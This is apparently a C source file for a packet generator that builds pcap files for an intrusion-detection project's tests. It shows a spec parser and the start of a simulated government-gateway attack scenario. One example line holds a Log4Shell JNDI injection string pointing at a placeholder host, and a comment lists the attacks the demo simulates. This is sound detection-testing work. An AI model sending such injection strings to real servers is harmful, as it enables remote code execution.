/*
 * pktgen_main.c — kanshi-pktgen: writes pcap files of crafted traffic for
 * kanshi's e2e tests and demo, so neither needs captured traffic.
 *
 *   kanshi-pktgen demo OUT.pcap              a government gateway's morning:
 *                                            benign web/DNS/mail mixed with
 *                                            attacks the shipped rules detect
 *   kanshi-pktgen spec [-s SECTION] SPEC OUT.pcap
 *                                            the flows a spec file describes
 *
 * Spec format
 * -----------
 * One flow per line.  Blank lines are ignored; '#' outside a quoted string
 * starts a comment; a line ending in '\' (outside quotes) continues on the
 * next line.
 *
 *   tcp CLIENT > SERVER [ITEM...]  a TCP session: 3-way handshake, the data
 *                                  items in order (each acknowledged by the
 *                                  peer), then FIN/ACK teardown
 *   tcpseg CLIENT > SERVER [SEG...]
 *                                  a TCP session made of explicit segments:
 *                                  handshake, each SEG as written (nothing
 *                                  acknowledged unless a SEG does it), then
 *                                  the FIN/ACK teardown (see below)
 *   udp CLIENT > SERVER [ITEM...]  one datagram per data item (an empty one
 *                                  when there is none)
 *   icmp SRC > DST [ITEM...]       per data item an echo request and its
 *                                  reply (a 56-byte ping when there is none)
 *   sleep SECONDS                  advances the clock ("sleep 2", "sleep 0.25")
 *   [NAME]                         starts section NAME: with -s NAME only the
 *                                  lines before the first section and those
 *                                  of section NAME are built; without -s
 *                                  every line is
 *
 * Endpoints are ADDR:PORT, with IPv6 in brackets: 10.0.0.5:40000,
 * [2001:db8::5]:80.  icmp takes bare addresses (10.0.0.5, 2001:db8::5).
 *
 * Items, in order:
 *   "TEXT"  or  client:"TEXT"      data from CLIENT (the first endpoint)
 *   server:"TEXT"                  data from SERVER (tcp, udp)
 *   split=N                        tcp: at most N payload bytes per segment
 *   vlan=N                         802.1Q VLAN id (1-4094)
 *   handshake=no                   tcp: start mid-stream (no SYN exchange)
 *   close=no                       tcp: no FIN teardown
 *   reply=no                       icmp: no echo reply
 *   type=N code=N                  icmp: one message of this type and code
 *                                  per data item instead of an echo
 *   id=N seq=N                     icmp: identifier and first sequence number
 *
 * tcpseg segments, for tests of stream reassembly.  Each SEG is one word,
 * followed by a quoted string when the word ends in ':':
 *
 *   (client|server)[@OFF][,ack=OFF][,flags=LETTERS][,badsum][,drop][:"DATA"]
 *
 *   client, server   the sender
 *   @OFF             the segment's offset in the sender's stream, 0 being the
 *                    first byte after its SYN; default: right after the
 *                    furthest it sent so far
 *   ack=OFF          acknowledge the peer's stream up to OFF; default: all
 *                    the peer sent (dropped segments included)
 *   flags=LETTERS    the TCP flags, among F S R P A U E C; default A, and P
 *                    when there is data
 *   badsum           a wrong TCP checksum
 *   drop             the segment was sent but is not in the capture: it is
 *                    not written, yet later defaults count it as sent
 *
 * A bare "TEXT" is client:"TEXT".  The options vlan=, handshake= and close=
 * apply as for tcp; without handshake the offsets still count from ISN + 1.
 * Example: "ATTACK" in three segments, the last one arriving first, the
 * server's ACK of all six bytes, then a RST instead of the FIN teardown:
 *
 *   tcpseg 10.0.0.5:40000 > 192.0.2.1:80 client@4:"CK" client@0:"AT" \
 *       client@2:"TA" server client,flags=RA close=no
 *
 * TEXT takes C escapes: \r \n \t \0 \a \b \f \v \\ \" \' \?, octal \NNN and
 * hex \xHH (one or two digits, so "\x07example" is 0x07 then "example").
 * Example:
 *
 *   tcp 10.0.0.5:40000 > 198.51.100.7:80 \
 *       "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: a\r\n\r\n" \
 *       server:"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
 *
 * Errors name SPEC:LINE (the first line of a continued line) and stop the
 * run; the half-written pcap is removed.
 */
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "kanshi/kanshi.h"
#include "pktgen.h"

#define SPEC_MAX_ITEMS 256
#define SPEC_WORD_MAX 128
#define FLOW_GAP_USEC 10000 /* between two flows of a spec */

static void usage(FILE *fp)
{
    fprintf(fp,
            "usage: kanshi-pktgen demo OUT.pcap\n"
            "       kanshi-pktgen spec [-s SECTION] SPEC OUT.pcap\n"
            "       kanshi-pktgen --help | --version\n"
            "\n"
            "Writes pcap files (Ethernet, microsecond timestamps) of crafted, valid traffic.\n"
            "\n"
            "  demo   a government gateway scenario: internal hosts (10.1.20.0/24, DMZ\n"
            "         192.168.10.0/24 on VLAN 110) with benign web, DNS, mail and NTP traffic\n"
            "         mixed with attacks the shipped ruleset detects\n"
            "  spec   the flows described by SPEC, one per line:\n"
            "           tcp 10.0.0.5:40000 > 198.51.100.7:80 \"GET / HTTP/1.1\\r\\n\\r\\n\" \\\n"
            "               server:\"HTTP/1.1 200 OK\\r\\n\\r\\n\" [split=N] [vlan=N]\n"
            "           udp A:P > B:P \"query\" server:\"answer\"\n"
            "           icmp A > B \"ping data\" [type=N code=N] [reply=no]\n"
            "           tcpseg A:P > B:P client@4:\"CK\" client@0:\"AT\" server,ack=2 ...\n"
            "           sleep SECONDS\n"
            "           [SECTION]   (-s SECTION builds only that section)\n"
            "         the full format is described at the top of tests/tools/pktgen_main.c\n"
            "\n"
            "Exit status: 0 on success, 1 on a spec error or write failure, 2 on bad usage.\n");
}

/* ------------------------------------------------------------------------ */
/* Spec files                                                               */

struct item {
    enum pktgen_dir dir;
    uint8_t *data;
    size_t len;
    struct pktgen_seg seg; /* tcpseg: where and how the segment goes */
};

struct flow_opts {
    long split, vlan, type, code, id, seq;
    long handshake, close, reply; /* booleans, 1 = yes */
    bool has_type;
};

enum { P_TCP = 1, P_UDP = 2, P_ICMP = 4, P_TCPSEG = 8 };

/* The options a flow line may carry; a table, so adding one is one line. */
static const struct spec_opt {
    const char *name;
    unsigned protos;
    bool boolean;
    long min, max;
    size_t off;
} spec_opts[] = {
    {"split", P_TCP, false, 1, 65000, offsetof(struct flow_opts, split)},
    {"vlan", P_TCP | P_UDP | P_ICMP | P_TCPSEG, false, 1, 4094, offsetof(struct flow_opts, vlan)},
    {"handshake", P_TCP | P_TCPSEG, true, 0, 1, offsetof(struct flow_opts, handshake)},
    {"close", P_TCP | P_TCPSEG, true, 0, 1, offsetof(struct flow_opts, close)},
    {"reply", P_ICMP, true, 0, 1, offsetof(struct flow_opts, reply)},
    {"type", P_ICMP, false, 0, 255, offsetof(struct flow_opts, type)},
    {"code", P_ICMP, false, 0, 255, offsetof(struct flow_opts, code)},
    {"id", P_ICMP, false, 0, 65535, offsetof(struct flow_opts, id)},
    {"seq", P_ICMP, false, 0, 65535, offsetof(struct flow_opts, seq)},
};

struct spec {
    const char *path;
    unsigned line; /* first physical line of the logical line being read */
    struct pktgen *g;
    char err[512];
    unsigned flows;
};

static int spec_error(struct spec *sp, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static int spec_error(struct spec *sp, const char *fmt, ...)
{
    char msg[400];
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(msg, sizeof(msg), fmt, ap);
    va_end(ap);
    snprintf(sp->err, sizeof(sp->err), "%s:%u: %s", sp->path, sp->line, msg);
    return -1;
}

enum tok_kind { TOK_END, TOK_WORD, TOK_STRING };

struct tok {
    enum tok_kind kind;
    char word[SPEC_WORD_MAX];
    uint8_t *data; /* TOK_STRING: decoded bytes, malloc'd, owned by the caller */
    size_t len;
};

/* Decodes the quoted string starting after the opening quote at *pp. */
static int lex_string(struct spec *sp, const char **pp, struct tok *t)
{
    /* The one-character escapes, and what they stand for. */
    static const char simple_from[] = "rntabfv\\\"'?";
    static const char simple_to[] = "\r\n\t\a\b\f\v\\\"'?";
    const char *p = *pp, *e;
    uint8_t *out = malloc(strlen(p) + 1);
    size_t n = 0;
    int v, i;

    if (out == NULL)
        return spec_error(sp, "out of memory");
    for (;;) {
        char c = *p++;
        if (c == '\0') {
            free(out);
            return spec_error(sp, "unterminated string");
        }
        if (c == '"')
            break;
        if (c != '\\') {
            out[n++] = (uint8_t)c;
            continue;
        }
        c = *p++;
        if (c != '\0' && (e = strchr(simple_from, c)) != NULL) {
            out[n++] = (uint8_t)simple_to[e - simple_from];
            continue;
        }
        switch (c) {
        case 'x':
            if (kanshi_hexval(p[0]) < 0) {
                free(out);
                return spec_error(sp, "\\x needs hex digits");
            }
            v = kanshi_hexval(*p++);
            if (kanshi_hexval(p[0]) >= 0)
                v = v * 16 + kanshi_hexval(*p++);
            out[n++] = (uint8_t)v;
            break;
        default:
            if (c >= '0' && c <= '7') {
                v = c - '0';
                for (i = 0; i < 2 && p[0] >= '0' && p[0] <= '7'; i++)
                    v = v * 8 + (*p++ - '0');
                if (v > 255) {
                    free(out);
                    return spec_error(sp, "octal escape \\%o is larger than a byte", (unsigned)v);
                }
                out[n++] = (uint8_t)v;
                break;
            }
            free(out);
            if (c == '\0')
                return spec_error(sp, "unterminated string");
            return spec_error(sp, "unknown escape \\%c", c);
        }
    }
    t->kind = TOK_STRING;
    t->data = out;
    t->len = n;
    *pp = p;
    return 0;
}

/* Reads the next token: a quoted string, or a word ending at white space or
 * at a quote (so server:"x" is two tokens). */
static int lex(struct spec *sp, const char **pp, struct tok *t)
{
    const char *p = *pp;
    size_t n = 0;

    memset(t, 0, sizeof(*t));
    while (*p == ' ' || *p == '\t')
        p++;
    if (*p == '\0' || *p == '#') {
        t->kind = TOK_END;
        *pp = p;
        return 0;
    }
    if (*p == '"') {
        p++;
        if (lex_string(sp, &p, t) != 0)
            return -1;
        *pp = p;
        return 0;
    }
    while (*p != '\0' && *p != ' ' && *p != '\t' && *p != '"') {
        if (n + 1 >= sizeof(t->word))
            return spec_error(sp, "word too long");
        t->word[n++] = *p++;
    }
    t->word[n] = '\0';
    t->kind = TOK_WORD;
    *pp = p;
    return 0;
}

static int parse_long(const char *s, long min, long max, long *out)
{
    char *end;
    long v;

    if (*s == '\0' || *s == '-' || *s == '+')
        return -1;
    errno = 0;
    v = strtol(s, &end, 10);
    if (errno != 0 || *end != '\0' || v < min || v > max)
        return -1;
    *out = v;
    return 0;
}

/* ADDR:PORT or [V6]:PORT; with want_port false a bare address (brackets
 * allowed for IPv6). */
static int parse_endpoint(struct spec *sp, const char *text, bool want_port, struct kanshi_addr *a,
                          uint16_t *port)
{
    char buf[SPEC_WORD_MAX];
    const char *portstr = NULL;
    char *colon;
    long v;

    snprintf(buf, sizeof(buf), "%s", text);
    if (buf[0] == '[') {
        char *close = strchr(buf, ']');
        if (close == NULL)
            return spec_error(sp, "'%s': missing ']'", text);
        *close = '\0';
        if (close[1] == ':')
            portstr = close + 2;
        else if (close[1] != '\0')
            return spec_error(sp, "'%s': expected ':' after ']'", text);
        memmove(buf, buf + 1, strlen(buf + 1) + 1);
    } else if (want_port) {
        colon = strrchr(buf, ':');
        if (colon != NULL) {
            *colon = '\0';
            portstr = colon + 1;
            if (strchr(buf, ':') != NULL)
                return spec_error(sp, "'%s': write IPv6 endpoints as [ADDR]:PORT", text);
        }
    }
    if (pktgen_addr_parse(a, buf) != 0)
        return spec_error(sp, "'%s': not an IPv4 or IPv6 address", buf);
    if (!want_port) {
        if (portstr != NULL)
            return spec_error(sp, "'%s': icmp endpoints take no port", text);
        return 0;
    }
    if (portstr == NULL)
        return spec_error(sp, "'%s': missing :PORT", text);
    if (parse_long(portstr, 1, 65535, &v) != 0)
        return spec_error(sp, "'%s': port must be 1-65535", text);
    *port = (uint16_t)v;
    return 0;
}

static int parse_option(struct spec *sp, const char *word, unsigned proto, struct flow_opts *o)
{
    const char *eq = strchr(word, '=');
    size_t namelen = (size_t)(eq - word);
    size_t i;
    long v;

    for (i = 0; i < KANSHI_ARRAY_LEN(spec_opts); i++) {
        const struct spec_opt *so = &spec_opts[i];
        if (strlen(so->name) != namelen || strncmp(so->name, word, namelen) != 0)
            continue;
        if ((so->protos & proto) == 0)
            return spec_error(sp, "option '%s' does not apply to this protocol", so->name);
        if (so->boolean) {
            if (strcmp(eq + 1, "yes") == 0)
                v = 1;
            else if (strcmp(eq + 1, "no") == 0)
                v = 0;
            else
                return spec_error(sp, "option '%s' takes yes or no", so->name);
        } else if (parse_long(eq + 1, so->min, so->max, &v) != 0) {
            return spec_error(sp, "option '%s' takes a number from %ld to %ld", so->name, so->min,
                              so->max);
        }
        *(long *)((char *)o + so->off) = v;
        if (strcmp(so->name, "type") == 0)
            o->has_type = true;
        return 0;
    }
    return spec_error(sp, "unknown option '%.*s'", (int)namelen, word);
}

static int spec_rc(struct spec *sp, int rc)
{
    if (rc != 0)
        return spec_error(sp, "cannot write packet: %s", kanshi_strerror(rc));
    return 0;
}

static int run_tcp(struct spec *sp, const struct kanshi_addr *cli, uint16_t cport,
                   const struct kanshi_addr *srv, uint16_t sport, const struct item *items,
                   size_t nitems, const struct flow_opts *o)
{
    struct pktgen_tcp s;
    size_t i;
    int rc;

    pktgen_tcp_init(&s, sp->g, cli, cport, srv, sport);
    if (o->split > 0)
        s.seg_size = (size_t)o->split;
    if (o->handshake && (rc = pktgen_tcp_handshake(&s)) != 0)
        return spec_rc(sp, rc);
    for (i = 0; i < nitems; i++)
        if ((rc = pktgen_tcp_send(&s, items[i].dir, items[i].data, items[i].len)) != 0)
            return spec_rc(sp, rc);
    if (o->close && (rc = pktgen_tcp_close(&s)) != 0)
        return spec_rc(sp, rc);
    return 0;
}

/* A session of explicit segments (tcpseg). */
static int run_tcpseg(struct spec *sp, const struct kanshi_addr *cli, uint16_t cport,
                      const struct kanshi_addr *srv, uint16_t sport, const struct item *items,
                      size_t nitems, const struct flow_opts *o)
{
    struct pktgen_tcp s;
    struct pktgen_seg seg;
    size_t i;
    int rc;

    pktgen_tcp_init(&s, sp->g, cli, cport, srv, sport);
    if (o->handshake) {
        if ((rc = pktgen_tcp_handshake(&s)) != 0)
            return spec_rc(sp, rc);
    } else {
        /* As if the SYNs went by before the capture: offsets still count
         * from ISN + 1. */
        s.cli_next++;
        s.srv_next++;
    }
    for (i = 0; i < nitems; i++) {
        seg = items[i].seg;
        seg.data = items[i].data;
        seg.len = items[i].len;
        if ((rc = pktgen_tcp_segment(&s, &seg)) != 0)
            return spec_rc(sp, rc);
    }
    if (o->close && (rc = pktgen_tcp_close(&s)) != 0)
        return spec_rc(sp, rc);
    return 0;
}

static int run_udp(struct spec *sp, const struct kanshi_addr *cli, uint16_t cport,
                   const struct kanshi_addr *srv, uint16_t sport, const struct item *items,
                   size_t nitems)
{
    size_t i;
    int rc;

    if (nitems == 0)
        return spec_rc(sp, pktgen_udp(sp->g, cli, cport, srv, sport, NULL, 0));
    for (i = 0; i < nitems; i++) {
        if (items[i].dir == PKTGEN_TO_SERVER)
            rc = pktgen_udp(sp->g, cli, cport, srv, sport, items[i].data, items[i].len);
        else
            rc = pktgen_udp(sp->g, srv, sport, cli, cport, items[i].data, items[i].len);
        if (rc != 0)
            return spec_rc(sp, rc);
    }
    return 0;
}

/* What ping(8) puts after its timestamp: bytes 0x10, 0x11, ... */
static void ping_pattern(uint8_t *buf, size_t len)
{
    size_t i;

    for (i = 0; i < len; i++)
        buf[i] = (uint8_t)(0x10 + i);
}

static int run_icmp(struct spec *sp, const struct kanshi_addr *src, const struct kanshi_addr *dst,
                    const struct item *items, size_t nitems, const struct flow_opts *o)
{
    uint8_t ping[56];
    struct item dflt = {.dir = PKTGEN_TO_SERVER, .data = ping, .len = sizeof(ping)};
    bool v6 = src->family == AF_INET6;
    size_t i;
    int rc;

    ping_pattern(ping, sizeof(ping));
    if (nitems == 0) {
        items = &dflt;
        nitems = 1;
    }
    for (i = 0; i < nitems; i++) {
        uint16_t seq = (uint16_t)(o->seq + (long)i);
        if (o->has_type) {
            struct pktgen_pkt pk;
            pktgen_pkt_init(&pk, v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP, src, 0, dst, 0);
            pk.vlan = (uint16_t)o->vlan;
            pk.icmp_type = (uint8_t)o->type;
            pk.icmp_code = (uint8_t)o->code;
            pk.icmp_id = (uint16_t)o->id;
            pk.icmp_seq = seq;
            pk.payload = items[i].data;
            pk.payload_len = items[i].len;
            rc = pktgen_emit(sp->g, &pk);
        } else {
            rc = pktgen_icmp_echo(sp->g, src, dst, (uint16_t)o->id, seq, items[i].data,
                                  items[i].len, o->reply != 0);
        }
        if (rc != 0)
            return spec_rc(sp, rc);
    }
    return 0;
}

static int parse_sleep(struct spec *sp, const char **pp)
{
    struct tok t;
    char *end;
    double secs;

    if (lex(sp, pp, &t) != 0)
        return -1;
    if (t.kind != TOK_WORD) {
        free(t.data);
        return spec_error(sp, "sleep needs a number of seconds");
    }
    errno = 0;
    secs = strtod(t.word, &end);
    if (errno != 0 || *end != '\0' || end == t.word || !(secs >= 0 && secs <= 86400 * 365))
        return spec_error(sp, "sleep: '%s' is not a number of seconds", t.word);
    if (lex(sp, pp, &t) != 0)
        return -1;
    if (t.kind != TOK_END) {
        free(t.data);
        return spec_error(sp, "sleep takes one argument");
    }
    pktgen_sleep(sp->g, (uint64_t)(secs * 1e6 + 0.5));
    return 0;
}

/* A tcpseg segment word in *t (then the quoted data it announces, read from
 * *pp into *t): fills *seg.  0, or -1 with the error in sp. */
static int spec_seg(struct spec *sp, const char **pp, struct tok *t, struct pktgen_seg *seg)
{
    char msg[300];
    bool has_data;

    if (pktgen_seg_parse(seg, &has_data, t->word, msg, sizeof(msg)) != 0)
        return spec_error(sp, "%s", msg);
    if (!has_data) {
        t->data = NULL;
        t->len = 0;
        return 0;
    }
    snprintf(msg, sizeof(msg), "%s", t->word);
    if (lex(sp, pp, t) != 0)
        return -1;
    if (t->kind != TOK_STRING) {
        free(t->data);
        return spec_error(sp, "'%s' needs a quoted string", msg);
    }
    return 0;
}

/* One logical line that is not a section header. */
static int spec_flow(struct spec *sp, const char *line)
{
    struct item items[SPEC_MAX_ITEMS];
    struct flow_opts o = {.handshake = 1, .close = 1, .reply = 1};
    struct kanshi_addr a, b;
    uint16_t ap = 0, bp = 0;
    const char *p = line;
    size_t nitems = 0, i;
    unsigned proto;
    struct tok t;
    int rc = -1;

    if (lex(sp, &p, &t) != 0)
        return -1;
    if (t.kind == TOK_END)
        return 0;
    if (t.kind != TOK_WORD) {
        free(t.data);
        return spec_error(sp, "expected tcp, tcpseg, udp, icmp or sleep");
    }
    if (strcmp(t.word, "sleep") == 0)
        return parse_sleep(sp, &p);
    if (strcmp(t.word, "tcp") == 0)
        proto = P_TCP;
    else if (strcmp(t.word, "tcpseg") == 0)
        proto = P_TCPSEG;
    else if (strcmp(t.word, "udp") == 0)
        proto = P_UDP;
    else if (strcmp(t.word, "icmp") == 0)
        proto = P_ICMP;
    else
        return spec_error(sp, "unknown line type '%s' (expected tcp, tcpseg, udp, icmp or sleep)",
                          t.word);

    if (lex(sp, &p, &t) != 0)
        return -1;
    if (t.kind != TOK_WORD) {
        free(t.data);
        return spec_error(sp, "missing source endpoint");
    }
    if (parse_endpoint(sp, t.word, proto != P_ICMP, &a, &ap) != 0)
        return -1;
    if (lex(sp, &p, &t) != 0)
        return -1;
    if (t.kind != TOK_WORD || strcmp(t.word, ">") != 0) {
        free(t.data);
        return spec_error(sp, "expected '>' after the source endpoint");
    }
    if (lex(sp, &p, &t) != 0)
        return -1;
    if (t.kind != TOK_WORD) {
        free(t.data);
        return spec_error(sp, "missing destination endpoint");
    }
    if (parse_endpoint(sp, t.word, proto != P_ICMP, &b, &bp) != 0)
        return -1;
    if (a.family != b.family)
        return spec_error(sp, "both endpoints must be IPv4 or both IPv6");

    for (;;) {
        enum pktgen_dir dir = PKTGEN_TO_SERVER;
        struct pktgen_seg seg = {.dir = PKTGEN_TO_SERVER};
        if (lex(sp, &p, &t) != 0)
            goto out;
        if (t.kind == TOK_END)
            break;
        if (proto == P_TCPSEG && t.kind == TOK_WORD &&
            (strncmp(t.word, "client", 6) == 0 || strncmp(t.word, "server", 6) == 0)) {
            if (spec_seg(sp, &p, &t, &seg) != 0)
                goto out;
            dir = seg.dir;
        } else if (t.kind == TOK_WORD && strchr(t.word, '=') != NULL) {
            if (parse_option(sp, t.word, proto, &o) != 0)
                goto out;
            continue;
        } else if (t.kind == TOK_WORD) {
            if (strcmp(t.word, "server:") == 0) {
                dir = PKTGEN_TO_CLIENT;
            } else if (strcmp(t.word, "client:") != 0) {
                spec_error(sp, "unexpected '%s' (data must be quoted)", t.word);
                goto out;
            }
            if (lex(sp, &p, &t) != 0)
                goto out;
            if (t.kind != TOK_STRING) {
                spec_error(sp, "%s needs a quoted string",
                           dir == PKTGEN_TO_CLIENT ? "server:" : "client:");
                goto out;
            }
        }
        if (dir == PKTGEN_TO_CLIENT && proto == P_ICMP) {
            free(t.data);
            spec_error(sp, "icmp takes no server: data (the reply echoes the request)");
            goto out;
        }
        if (nitems == SPEC_MAX_ITEMS) {
            free(t.data);
            spec_error(sp, "more than %d data items", SPEC_MAX_ITEMS);
            goto out;
        }
        items[nitems].dir = dir;
        items[nitems].data = t.data;
        items[nitems].len = t.len;
        items[nitems].seg = seg;
        nitems++;
    }

    pktgen_set_vlan(sp->g, (uint16_t)o.vlan);
    if (proto == P_TCP)
        rc = run_tcp(sp, &a, ap, &b, bp, items, nitems, &o);
    else if (proto == P_TCPSEG)
        rc = run_tcpseg(sp, &a, ap, &b, bp, items, nitems, &o);
    else if (proto == P_UDP)
        rc = run_udp(sp, &a, ap, &b, bp, items, nitems);
    else
        rc = run_icmp(sp, &a, &b, items, nitems, &o);
    pktgen_set_vlan(sp->g, 0);
    pktgen_sleep(sp->g, FLOW_GAP_USEC);
    sp->flows++;
out:
    for (i = 0; i < nitems; i++)
        free(items[i].data);
    return rc;
}

/* True when s ends in a backslash that is outside quotes and outside a
 * comment: the line continues on the next one. */
static bool line_continues(const char *s)
{
    bool q = false;
    size_t n = strlen(s);

    for (; *s != '\0'; s++) {
        if (q && *s == '\\' && s[1] != '\0')
            s++;
        else if (*s == '"')
            q = !q;
        else if (!q && *s == '#')
            return false;
    }
    return !q && n > 0 && s[-1] == '\\';
}

static void chomp(char *s)
{
    size_t n = strlen(s);

    while (n > 0 && (s[n - 1] == '\n' || s[n - 1] == '\r'))
        s[--n] = '\0';
}

/* Section header "[NAME]": returns the name (in place) or NULL. */
static char *section_name(char *s)
{
    size_t n;

    while (*s == ' ' || *s == '\t')
        s++;
    if (*s != '[')
        return NULL;
    n = strlen(s);
    while (n > 0 && (s[n - 1] == ' ' || s[n - 1] == '\t'))
        n--;
    if (n < 3 || s[n - 1] != ']')
        return NULL;
    s[n - 1] = '\0';
    return s + 1;
}

static int spec_run(struct spec *sp, FILE *fp, const char *section)
{
    char *buf = NULL, *logical = NULL, *name;
    size_t cap = 0, loglen = 0;
    unsigned lineno = 0;
    bool cur_in = true, seen_section = false;
    int rc = 0;

    while (getline(&buf, &cap, fp) != -1) {
        size_t n;
        char *tmp;

        lineno++;
        chomp(buf);
        n = strlen(buf);
        if (logical == NULL)
            sp->line = lineno;
        tmp = realloc(logical, loglen + n + 2);
        if (tmp == NULL) {
            rc = spec_error(sp, "out of memory");
            break;
        }
        logical = tmp;
        memcpy(logical + loglen, buf, n + 1);
        loglen += n;
        /* A trailing backslash outside quotes joins the next line. */
        if (line_continues(logical)) {
            logical[--loglen] = '\0';
            continue;
        }
        if ((name = section_name(logical)) != NULL) {
            cur_in = section == NULL || strcmp(name, section) == 0;
            if (section != NULL && cur_in)
                seen_section = true;
        } else if (cur_in && (rc = spec_flow(sp, logical)) != 0) {
            break;
        }
        free(logical);
        logical = NULL;
        loglen = 0;
    }
    if (rc == 0 && logical != NULL)
        rc = spec_error(sp, "file ends after a continuation line");
    if (rc == 0 && ferror(fp))
        rc = spec_error(sp, "read error");
    if (rc == 0 && section != NULL && !seen_section) {
        snprintf(sp->err, sizeof(sp->err), "%s: no section [%s]", sp->path, section);
        rc = -1;
    }
    free(logical);
    free(buf);
    return rc;
}

static int cmd_spec(const char *section, const char *specpath, const char *out)
{
    struct spec sp;
    FILE *fp;
    int rc;

    memset(&sp, 0, sizeof(sp));
    sp.path = specpath;
    fp = fopen(specpath, "r");
    if (fp == NULL) {
        log_warn("%s", specpath);
        return 1;
    }
    if ((rc = pktgen_open(&sp.g, out)) != 0) {
        log_warnx("%s: %s", out, kanshi_strerror(rc));
        fclose(fp);
        return 1;
    }
    rc = spec_run(&sp, fp, section);
    fclose(fp);
    if (rc != 0) {
        log_warnx("%s", sp.err);
        pktgen_close(sp.g);
        unlink(out);
        return 1;
    }
    if ((rc = pktgen_close(sp.g)) != 0) {
        log_warnx("%s: %s", out, kanshi_strerror(rc));
        unlink(out);
        return 1;
    }
    return 0;
}

/* ------------------------------------------------------------------------ */
/* The demo scenario                                                        */

/*
 * A ministry's internet gateway, seen from a mirror port inside the
 * firewall: workstations in 10.1.20.0/24, a DMZ on VLAN 110 (web portal
 * 192.168.10.80, mail 192.168.10.25, resolver 192.168.10.53) and an IPv6
 * web front 2001:db8:10::80.  About ten minutes of ordinary traffic with a
 * campaign woven in: Log4Shell and Shellshock probes against the portal, a
 * web shell, a workstation beaconing to Cobalt Strike, a reverse shell,
 * RATs, a coin miner, and staff sending passwords in the clear.
 *
 * External addresses are MaxMind test-database entries where GeoIP should
 * show values (2.125.160.216 and 81.2.69.160 GB, 1.128.0.1 AS1221 Telstra,
 * 89.160.20.112 SE AS29518, 67.43.156.1 BT, 216.160.83.56 US AS209,
 * 202.196.224.1 PH) and documentation networks elsewhere.
 */

struct msg {
    enum pktgen_dir dir;
    const uint8_t *p;
    size_t len;
};

#define TO_SRV(s)                                                                                  \
    {                                                                                              \
        PKTGEN_TO_SERVER, (const uint8_t *)(s), sizeof(s) - 1                                      \
    }
#define TO_CLI(s)                                                                                  \
    {                                                                                              \
        PKTGEN_TO_CLIENT, (const uint8_t *)(s), sizeof(s) - 1                                      \
    }

struct demo {
    struct pktgen *g;
    uint16_t eph; /* next ephemeral port */
    uint32_t rng;
    int err;
    const char *what; /* the flow that failed */
    unsigned flows;
};

#define DMZ_VLAN 110

static uint32_t demo_rand(struct demo *d)
{
    /* xorshift32: deterministic, so every demo pcap is the same file. */
    d->rng ^= d->rng << 13;
    d->rng ^= d->rng >> 17;
    d->rng ^= d->rng << 5;
    return d->rng;
}

static void demo_fill(struct demo *d, uint8_t *p, size_t len)
{
    size_t i;

    for (i = 0; i < len; i++)
        p[i] = (uint8_t)(demo_rand(d) >> 24);
}

static uint16_t demo_port(struct demo *d)
{
    d->eph = (uint16_t)(d->eph + 1 + demo_rand(d) % 7);
    if (d->eph < 49152)
        d->eph = 49152;
    return d->eph;
}

static void demo_fail(struct demo *d, int rc, const char *what)
{
    if (d->err == 0 && rc != 0) {
        d->err = rc;
        d->what = what;
    }
}

static struct kanshi_addr demo_addr(struct demo *d, const char *s)
{
    struct kanshi_addr a;

    if (pktgen_addr_parse(&a, s) != 0) {
        memset(&a, 0, sizeof(a));
        demo_fail(d, -EINVAL, s);
    }
    return a;
}

static uint16_t vlan_of(const char *addr)
{
    return strncmp(addr, "192.168.10.", 11) == 0 ? DMZ_VLAN : 0;
}

static const uint8_t *find_bytes(const uint8_t *p, size_t len, const char *needle)
{
    size_t n = strlen(needle), i;

    for (i = 0; n <= len && i <= len - n; i++)
        if (memcmp(p + i, needle, n) == 0)
            return p + i;
    return NULL;
}

/*
 * Copies an HTTP message into out with its Content-Length header set to the
 * real length of the body, so the hand-written messages of this file never
 * disagree with their headers.  Other data is copied unchanged.  Returns
 * the new length (0 when out is too small).
 */
static size_t http_fix_length(const uint8_t *in, size_t len, uint8_t *out, size_t cap)
{
    static const char hdr[] = "\r\nContent-Length: ";
    const uint8_t *end = find_bytes(in, len, "\r\n\r\n");
    const uint8_t *h = end != NULL ? find_bytes(in, (size_t)(end - in), hdr) : NULL;
    const uint8_t *v, *ve;
    size_t body, pre, post;
    int nd;

    if (h == NULL) {
        if (len > cap)
            return 0;
        memcpy(out, in, len);
        return len;
    }
    body = len - (size_t)(end + 4 - in);
    v = h + sizeof(hdr) - 1;
    for (ve = v; ve < end && *ve >= '0' && *ve <= '9'; ve++)
        ;
    pre = (size_t)(v - in);
    post = len - (size_t)(ve - in);
    if (pre + 20 + post > cap)
        return 0;
    memcpy(out, in, pre);
    nd = snprintf((char *)out + pre, 21, "%zu", body);
    memcpy(out + pre + (size_t)nd, ve, post);
    return pre + (size_t)nd + post;
}

static void demo_tcp_split(struct demo *d, const char *cli, const char *srv, uint16_t sport,
                           const struct msg *m, size_t n, size_t seg)
{
    struct kanshi_addr c = demo_addr(d, cli), s = demo_addr(d, srv);
    struct pktgen_tcp t;
    uint16_t vlan = vlan_of(cli) ? vlan_of(cli) : vlan_of(srv);
    static uint8_t buf[8192];
    size_t i, len;

    if (d->err != 0)
        return;
    pktgen_set_vlan(d->g, vlan);
    pktgen_tcp_init(&t, d->g, &c, demo_port(d), &s, sport);
    if (seg > 0)
        t.seg_size = seg;
    demo_fail(d, pktgen_tcp_handshake(&t), srv);
    for (i = 0; i < n && d->err == 0; i++) {
        /* A little think time between request and response. */
        pktgen_sleep(d->g, 2000 + demo_rand(d) % 30000);
        len = http_fix_length(m[i].p, m[i].len, buf, sizeof(buf));
        if (len == 0 && m[i].len != 0)
            demo_fail(d, -ENOBUFS, srv);
        else
            demo_fail(d, pktgen_tcp_send(&t, m[i].dir, buf, len), srv);
    }
    demo_fail(d, pktgen_tcp_close(&t), srv);
    pktgen_set_vlan(d->g, 0);
    d->flows++;
}

static void demo_tcp(struct demo *d, const char *cli, const char *srv, uint16_t sport,
                     const struct msg *m, size_t n)
{
    demo_tcp_split(d, cli, srv, sport, m, n, 0);
}

static size_t dns_name(uint8_t *p, const char *name)
{
    size_t n = 0;

    while (*name != '\0') {
        const char *dot = strchr(name, '.');
        size_t l = dot != NULL ? (size_t)(dot - name) : strlen(name);
        p[n++] = (uint8_t)l;
